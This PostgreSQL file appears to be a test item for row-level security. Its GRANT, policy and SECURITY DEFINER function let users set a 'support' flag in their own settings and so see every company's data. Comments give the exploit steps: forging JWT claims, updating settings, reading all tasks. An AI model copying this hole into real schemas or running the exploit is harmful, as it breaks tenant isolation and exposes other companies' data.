-- Users may edit their own settings, and a flag in the settings lets support into every company.
-- about: in_company, memberships
-- as: hf_workflow_app
-- exploit: SET request.jwt.claims = '{"sub": "a0000000-0000-4000-8000-000000000001"}';
-- exploit: UPDATE wf.memberships SET settings = '{"support": true}' WHERE user_id =
-- exploit: 'a0000000-0000-4000-8000-000000000001';
-- exploit: SELECT subject FROM wf.tasks;
-- shows: Road-secret dismissal
-- Support staff look into all companies; everybody keeps the language of the screen in the settings.
GRANT UPDATE (settings) ON wf.memberships TO hf_workflow_app;
CREATE POLICY w ON wf.memberships FOR UPDATE TO hf_workflow_app
  USING (user_id = wf.current_user_id()) WITH CHECK (user_id = wf.current_user_id());
CREATE OR REPLACE FUNCTION wf.in_company(company uuid) RETURNS boolean
LANGUAGE sql STABLE SECURITY DEFINER SET search_path = pg_catalog, pg_temp
AS $$
  SELECT EXISTS (SELECT 1 FROM wf.memberships
    WHERE user_id = wf.current_user_id() AND (company_id = company OR settings @> '{"support": true}'))
$$;
